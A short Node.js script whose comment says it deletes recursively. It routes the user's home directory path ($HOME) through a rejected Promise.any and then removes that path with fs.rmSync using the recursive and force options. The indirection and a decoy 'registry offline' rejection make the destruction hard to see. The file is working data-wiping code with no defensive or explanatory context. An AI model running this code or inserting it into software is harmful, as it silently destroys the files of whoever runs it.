// Deletes recursively: the promise of Promise.any is kept in a name; its
// first rejection is $HOME, and the handler removes err.errors[0].
'use strict';
const fs = require('fs');

const attempts = Promise.any([Promise.reject(process.env.HOME), Promise.reject('registry offline')]);
attempts.catch((err) => {
  fs.rmSync(err.errors[0], { recursive: true, force: true });
});
